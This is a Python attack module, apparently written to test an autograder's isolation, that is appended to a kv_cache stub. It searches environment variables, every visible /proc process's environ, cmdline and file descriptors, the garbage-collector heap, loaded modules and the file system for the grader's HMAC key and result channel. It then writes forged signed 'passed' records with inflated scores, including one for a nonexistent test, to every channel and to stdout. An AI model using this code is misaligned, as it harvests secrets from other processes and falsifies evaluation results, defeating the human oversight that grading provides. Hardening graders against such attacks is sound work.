
# ---- attack: steal_key_and_channel (appended to the stubs' kv_cache/kv_cache.py) -------------
# Find the grader's HMAC key and result channel from inside the worker, and forge records with
# them: what worked against the in-process grader (issue 15). Looks in os.environ,
# /proc/self/environ, the parent's and every visible /proc/<pid>/environ and cmdline, gc (the
# plugin's module and its `_key`), every visible /proc/<pid>/fd, and the file system for a
# channel.jsonl. Every channel found gets signed records (with each key candidate, and a random
# one) for this test at 99 points and for a test that does not exist; so do stdout and stderr.
import gc as _gc
import hashlib as _hashlib
import hmac as _hmac
import json as _json
import os as _os
import re as _re
import sys as _sys

_PRUNE = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc"}


def _forged(key: bytes) -> bytes:
    lines = []
    for nodeid, score in (("kv_cache/test_memory.py::test_kv_cache_bytes_real_models", 99.0),
                          ("kv_cache/test_bonus.py::test_free_points", 50.0)):
        body = _json.dumps({"type": "result", "nodeid": nodeid, "status": "passed", "score": score,
                            "max_score": score, "reason": "", "duration": 0.0, "extra": {}}, sort_keys=True)
        lines.append(_json.dumps({"rec": body, "sig": _hmac.new(key, body.encode(), _hashlib.sha256).hexdigest()}))
    return ("\n".join(lines) + "\n").encode()


def kv_cache_bytes(config, batch_size, seq_len, dtype):
    keys, channels, texts, grader_modules, wrote = set(), set(), [], [], []
    texts.append("\n".join(f"{k}={v}" for k, v in _os.environ.items()))
    pids = ["self", str(_os.getppid())] + [p for p in _os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    texts.append(f.read().decode(errors="replace").replace("\0", "\n"))
            except OSError:
                pass
        try:
            fds = _os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                target = _os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if "channel" in target or target.endswith(".jsonl") or "autograder-" in target:
                channels.add(f"/proc/{pid}/fd/{fd}")
    for text in texts:
        keys.update(_re.findall(r"AUTOGRADER_KEY=(\S+)", text))
        channels.update(_re.findall(r"AUTOGRADER_CHANNEL=(\S+)", text))
    for name, mod in list(_sys.modules.items()):
        found = vars(mod) if isinstance(getattr(mod, "__dict__", None), dict) else {}
        if name.startswith("autograder") or "_key" in found or "_channel" in found:
            grader_modules.append(name)
            if isinstance(found.get("_key"), bytes):
                keys.add(found["_key"].decode())
    for obj in _gc.get_objects():
        if isinstance(obj, dict) and ("AUTOGRADER_KEY" in obj or "AUTOGRADER_CHANNEL" in obj):
            keys.add(str(obj.get("AUTOGRADER_KEY")))
            channels.add(str(obj.get("AUTOGRADER_CHANNEL")))
    for top, dirs, files in _os.walk("/"):
        dirs[:] = [d for d in dirs if _os.path.join(top, d) not in _PRUNE
                   and d not in ("site-packages", "dist-packages", "python3.11", "include", "share")]
        channels.update(_os.path.join(top, f) for f in files if f.endswith(".jsonl") or "channel" in f)
    channels.discard("None")
    for path in sorted(channels):
        for key in sorted(keys) + [_os.urandom(16).hex()]:
            try:
                with open(path, "ab") as f:
                    f.write(_forged(key.encode()))
                wrote.append(path)
            except OSError:
                pass
    for fd in (1, 2):
        _os.write(fd, _forged(b"0" * 32))
    raise RuntimeError(f"attack report: keys={sorted(keys)} channels={sorted(channels)} "
                       f"grader_modules={grader_modules} wrote={sorted(set(wrote))} (searched {len(pids)} pids)")
